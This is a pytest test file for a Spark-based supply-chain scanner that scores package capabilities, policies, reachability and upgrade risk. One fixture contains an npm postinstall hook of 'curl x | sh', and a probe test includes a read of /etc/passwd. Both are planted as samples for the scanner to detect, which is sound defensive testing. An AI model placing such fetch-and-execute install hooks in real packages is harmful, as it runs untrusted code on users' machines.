import subprocess
import sys
from pathlib import Path

import pytest
from pyspark.sql import functions as F

from plumbline.plans import registry
from plumbline.plans.api import Commands, Plugins, ScanOptions, Scanner
from plumbline.sinks import reports
from plumbline.sources.files import Policy
from plumbline.sources import files as inputs
from plumbline.streaming import snapshots

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def tree(spark):
    rows = [
        ("app", "src/run.py", "import subprocess\nimport os\n\ndef main():\n    go()\n\ndef go():\n    subprocess.run(os.environ['X'])\n"),
        ("app", "web/a.js", "const http = require('http');\nhttp.get('x');\n"),
        ("app", "package.json", '{"name":"app","dependencies":{"left":"1"}}'),
        ("app", "package-lock.json", '{"lockfileVersion":3,"packages":{"node_modules/left":{"version":"1.0","resolved":"https://r","dependencies":{"@s/right":"1"}},"node_modules/@s/right":{"version":"2.0","integrity":"sha512-x"}}}'),
        ("app", "node_modules/left/dist/i.js", "const cp = require('child_process');\ncp.exec('x');\n"),
        ("app", "node_modules/left/package.json", '{"name":"left","scripts":{"postinstall":"curl x | sh"}}'),
        ("app", "node_modules/@s/right/i.js", "const http = require('http');\n"),
    ]
    return spark.createDataFrame(rows, "project string, path string, content string").cache()


def test_scan(spark, tree):
    scanner = Scanner(spark)
    result = scanner.scan(tree)
    rows = {r.package: r for r in result.findings.collect()}
    assert set(rows) == {"app/src", "app/web", "app:left", "app:@s/right"} and rows["app/src"].level == "HIGH" and rows["app:left"].level == "HIGH"
    assert "exec" in rows["app/src"].caps and rows["app/web"].caps == ["network"]
    assert scanner.exit_code(result) == 1 and [(r.project, r.reason) for r in result.verdict.collect()] == [("app", "risk HIGH in package app/src")]
    assert not result.taint.isEmpty()


def test_scan_options(spark, tree):
    p = Policy(exclude_packages=["app/src/*", "app:left"])
    quiet = Scanner(spark, ScanOptions(policy=p, interprocedural=False))
    assert quiet.exit_code(quiet.scan(tree)) == 0
    deny = Scanner(spark, ScanOptions(policy=Policy(exclude_packages=["app/src", "app:left"], deny_capabilities=["network"]), interprocedural=False))
    assert "denied capability network" in deny.scan(tree).verdict.first().reason
    one = Scanner(spark, ScanOptions(top=1, focus="app/src", interprocedural=False)).scan(tree).findings.collect()
    assert [r.package for r in one] == ["app/src"]
    shy = Scanner(spark, ScanOptions(hide_low_confidence=0.95, interprocedural=False)).scan(tree)
    assert shy.findings.isEmpty()


def test_plugins(spark, tree):
    plugins = Plugins()

    @plugins.detector("magic", "python")
    def detect(path, text):
        return [("plugin", 0.5)] if "subprocess" in text else []

    @plugins.scorer("more")
    def more(package, caps):
        return 99

    assert plugins.installed() == [("magic", "detector"), ("more", "scorer")]
    result = Scanner(spark, ScanOptions(interprocedural=False), plugins).scan(tree)
    rows = {r.package: r for r in result.findings.collect()}
    assert "plugin" in rows["app/src"].caps
    assert rows["app/web"].final == pytest.approx(15 + 20)
    assert plugins.remove("magic") and not plugins.remove("magic")


def test_commands(spark, tree):
    c = Commands(spark)
    assert {r.package for r in c.capabilities(tree, "high").collect()} == {"app/src", "app:left"}
    assert any("subprocess" in r.text or "run.py" in r.text for r in c.explain(tree, "exec").collect())
    assert {(r.type, r.points) for r in c.integrity(tree).collect()} == {("missing_integrity", 2)}
    assert {r.signal for r in c.topology(tree).collect()} == {"direct", "deep_pct", "skew", "duplicates", "churn"}
    assert {(r.package, r.reachable) for r in c.reachability(tree).collect()} == {("left", False), ("@s/right", False)}
    assert [(r.package, r.level) for r in c.reachability(tree, min_risk="high").collect()] == [("left", "HIGH")]
    scores = {(r.project, r.module): (r.direct, r.effective) for r in c.graph(tree).collect()}
    assert scores["app", "@s/right"][0] == 15 and scores["app", "left"][0] >= 20 and scores["app", "left"][1] > scores["app", "left"][0]
    assert c.impact(tree, "left").isEmpty()
    assert [(r.project, r.node, r.depth, r.loc) for r in c.impact(tree, "@s/right").collect()] == [("app", "left", 1, 2)]
    health = spark.createDataFrame([], "module string, score int")
    assert '"name":"left"' in c.sbom(tree, health).first().value
    assert c.diff(tree.filter("path LIKE 'src%'"), tree.filter("path LIKE 'web%'")).count() == 2
    schema = "seq int, module string, score int, level string"
    past = spark.createDataFrame(c.record(tree, spark.createDataFrame([], schema)).select("seq", "module", "score", "level").collect(), schema)
    assert {(r.seq, r.module, r.score) for r in past.collect()} == {(1, m, int(e)) for (_, m), (_, e) in scores.items()}
    two = past.unionByName(past.withColumn("seq", F.lit(2)))
    assert {r.module for r in c.trend(two, "left").collect()} == {"left"}
    assert {r.change for r in c.changes(two).collect()} == {"unchanged"}
    assert '"id":"left"' in c.viz(tree).first().value and c.viz(tree, "dot").count() == 5
    document = c.sbom(tree, health).first().value
    assert "exec" in document and '"value":"HIGH"' in document
    syms = lambda *rows: spark.createDataFrame(rows, "package string, symbol string, type string")
    up = c.upgrade(tree.limit(0), tree, "left", (syms(("left", "f", "a"), ("left", "g", "a")), syms(("left", "f", "b"))))
    assert {r.change for r in up.changes.collect()} == {"added"}
    assert [(r.package, r.version, r.caps) for r in up.added.collect()] == [("@s/right", "2.0", ["network"])]
    assert [(r.symbol, r.change) for r in up.breaking.collect()] == [("f", "type changed"), ("g", "removed")]
    lines = [r.value for r in reports.upgrade_lines(up.changes.filter("package = 'left'"), up.breaking, up.added).collect()]
    assert len(lines) == 4 and lines[-1] == "  + @s/right@2.0"
    assert c.exit_code(c.integrity(tree)) == 1 and c.exit_code(c.integrity(tree), 2) == 0


def test_health_and_suppression_gate(spark, tree):
    calm = Policy(exclude_packages=["app/src", "app:left"])
    health = spark.createDataFrame([("left", 90, True), ("@s/right", 20, False), ("other", 0, True)], "module string, score int, archived boolean")
    for more, reason in (({"block_archived": True}, "module left is archived"), ({"min_health_score": 50}, "module @s/right has health 20, below 50"), ({}, "")):
        calm.block_archived, calm.min_health_score = more.get("block_archived", False), more.get("min_health_score", 0)
        s = Scanner(spark, ScanOptions(policy=calm, interprocedural=False))
        row = s.scan(tree, health=health).verdict.first()
        assert (row.passed, row.reason) == (not reason, reason)
    for suppress in ({"by_module": ["left", "app/src/*"]}, {"by_file_pattern": ["src/**", "node_modules/left/**"]}):
        s = Scanner(spark, ScanOptions(policy=Policy(suppress=suppress), interprocedural=False))
        assert s.exit_code(s.scan(tree)) == 0
    s = Scanner(spark, ScanOptions(policy=Policy(suppress={"by_capability_via": ["import"]}), interprocedural=False))
    assert s.scan(tree).evidence.filter("via = 'import'").isEmpty()


def test_projects_are_apart(spark, tree):
    other = spark.createDataFrame([("b", "go.mod", "module b\nrequire x.y/a v1\nrequire x.y/z v1\n"), ("b", "go.sum", "x.y/a v1 h1:x\n"), ("c", "go.mod", "module c\nrequire x.y/a v1\n"), ("c", "vendor/x.y/a/in/f.go", 'package in\nimport "os/exec"\n')], "project string, path string, content string")
    both = tree.unionByName(other)
    c = Commands(spark)
    assert {(r.project, r.package) for r in c.integrity(other).collect()} == {("b", "x.y/z"), ("c", "x.y/a")}
    assert {(r.project, r.module) for r in c.graph(both).collect()} >= {("app", "left"), ("app", "@s/right")}
    assert {r.project for r in c.topology(both).collect()} >= {"app"}
    s = Scanner(spark, ScanOptions(interprocedural=False, policy=Policy(suppress={"by_module": ["x.y/a"]})))
    result = s.scan(both)
    assert {(r.project, r.passed) for r in result.verdict.collect()} == {("app", False), ("b", True), ("c", True)}
    assert s.sarif(result, spark.createDataFrame([("left", 10)], "module string, score int")).first().value.count('"ruleId"') >= 2
    text = [r.value for r in s.text(result, spark.createDataFrame([("left", "1.0", 10, 1, True)], "module string, version string, score int, n_cve int, archived boolean"), spark.createDataFrame([("left", "CVE-1")], "module string, id string")).collect()]
    assert any("ARCHIVED" in t for t in text) and any(t.startswith("app: FAILED") for t in text) and any("CVE-1" in t for t in text)


def test_owners(spark):
    paths = ["src/a.js", "node_modules/x/a.js", "node_modules/x/node_modules/@s/y/lib/a.js", "vendor/github.com/a/b/sub/f.go", "vendor/other/f.go", "lib/python3/site-packages/My_Pkg/a.py", "deps/jason/lib/a.ex", "vendor/bundle/ruby/3.0/gems/rack-2.2.3/lib/a.rb", "build/a.js", "node_modules/x/.git/a.js"]
    src = inputs.sources(spark.createDataFrame([("p", p, "") for p in paths], "project string, path string, content string"))
    names = spark.createDataFrame([("p", "github.com/a/b"), ("p", "my-pkg"), ("p", "github.com/a")], "project string, name string")
    got = {r.path: r.module for r in inputs.owners(src, names).collect()}
    assert got == {"src/a.js": None, "node_modules/x/a.js": "x", "node_modules/x/node_modules/@s/y/lib/a.js": "@s/y", "vendor/github.com/a/b/sub/f.go": "github.com/a/b", "vendor/other/f.go": "other", "lib/python3/site-packages/My_Pkg/a.py": "my-pkg", "deps/jason/lib/a.ex": "jason", "vendor/bundle/ruby/3.0/gems/rack-2.2.3/lib/a.rb": "rack"}


def test_versions_of_a_diff_keep_the_last(spark):
    text = "+++ b/go.mod\n+require x.y/a v1.9.0\n+require x.y/a v1.10.0\n-require x.y/a v1.2.0\n"
    _, after = inputs.diff_versions(spark.createDataFrame([("p", text)], "project string, content string"), "go")
    assert [tuple(r) for r in after.collect()] == [("p", "x.y/a", "v1.10.0")]


def test_probe_lines(spark):
    rows = spark.createDataFrame([("fs /etc/passwd",), (" net 1.2.3.4:80 x",), ("exec ls",), ("exec ls",), ("odd thing",), ("fs",)], "value string")
    assert {tuple(r) for r in inputs.trace_events(rows, "probes").collect()} == {("filesystem", "/etc/passwd"), ("network", "1.2.3.4:80 x"), ("subprocess", "ls")}


def test_capability_diff_lines(spark):
    rows = spark.createDataFrame([("b", ["exec"], ["fs:read"], True), ("a", [], ["crypto"], False)], "package string, added array<string>, removed array<string>, escalated boolean")
    assert [r.value for r in reports.capability_diff_lines(rows).collect()] == ["  a", "    - crypto", "! b", "    + exec", "    - fs:read", "Capabilities escalate: review before upgrading"]
    assert [r.value for r in reports.capability_diff_lines(rows.limit(0)).collect()] == ["No capability changes."]


#: many rounds of small jobs each; their operators have tests of their own in test_graph.py
LOOPS = {"summary_fixpoint", "interproc_taint", "taint_paths", "reach_hints", "package_rollup", "cfa_nodes", "cfa_edges", "module_risk", "transitive_score", "impact_depth", "impact_affected", "new_transitive", "topological_levels", "topology_metrics", "topology_signals", "bfs_depth", "hop_propagation", "reach_closure", "entry_functions"}


@pytest.mark.parametrize("name", sorted(set(registry.QUERIES) - LOOPS))
def test_query_is_stable(spark, sf, name):
    df = registry.QUERIES[name](spark, sf)
    assert len(set(df.columns)) == len(df.columns)
    if name in ("final_score", "taint_pairs", "node_degree", "scc_members"):
        rows = sorted(map(str, df.collect()))
        spark.conf.set("spark.sql.shuffle.partitions", "3")
        assert sorted(map(str, registry.QUERIES[name](spark, sf).collect())) == rows
        spark.conf.set("spark.sql.shuffle.partitions", "8")


def test_entry_without_the_corpus_part(tmp_path):
    code = "import sys, importlib.abc\nclass No(importlib.abc.MetaPathFinder):\n def find_spec(self, n, p, t=None):\n  if n in ('corpus_pipeline', 'plumbline.llm'): raise ModuleNotFoundError(n)\nsys.meta_path.insert(0, No())\nimport __spark_entry__ as e\nprint(sorted(n for n in e.queries() if n.startswith('op') or n == 'pipeline'), len(e.queries()) > 60, set(e.oracle_sql()) <= set(e.queries()))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=str(ROOT), timeout=120)
    assert out.stdout.strip() == "[] True True", out.stderr


def test_nothing_imports_the_corpus_part():
    for f in (ROOT / "plumbline").rglob("*.py"):
        if "llm" not in f.parts:
            assert "llm" not in f.read_text(), f


def test_streams(spark, tmp_path):
    rows = [("m", "2024-01-01 00:00:00", 5), ("m", "2024-01-01 12:00:00", 45), ("n", "2024-01-02 00:00:00", 12), ("m", "2024-01-09 00:00:00", 3)]
    df = spark.createDataFrame(rows, "module string, ts string, score int").withColumn("ts", F.col("ts").cast("timestamp"))
    src = str(tmp_path / "in")
    df.write.parquet(src)
    stream = lambda: spark.readStream.schema(df.schema).parquet(src)

    def drain(out, mode, name):
        out.writeStream.format("memory").queryName(name).outputMode(mode).option("checkpointLocation", str(tmp_path / name)).trigger(availableNow=True).start().awaitTermination(120)
        return spark.table(name).collect()

    days = {str(r.start)[:10]: (r.high, r.medium, r.low) for r in drain(snapshots.level_counts(stream()), "complete", "t_levels")}
    assert days == {"2024-01-01": (1, 0, 1), "2024-01-02": (0, 1, 0), "2024-01-09": (0, 0, 1)}
    got = sorted((r.module, r.old_score, r.new_score, r.change) for r in drain(snapshots.changes(stream()), "append", "t_changes") if r.module == "m" and r.old_score is not None)
    assert got == [("m", 5, 45, "escalated"), ("m", 45, 3, "improved")]
    assert len(drain(snapshots.first_seen(stream(), ["module"], "30 days"), "append", "t_seen")) == 2
    commits = stream().select("ts", F.col("module").alias("file"), F.col("score").cast("string").alias("commit"))
    assert drain(snapshots.churn(commits, 2), "complete", "t_churn")
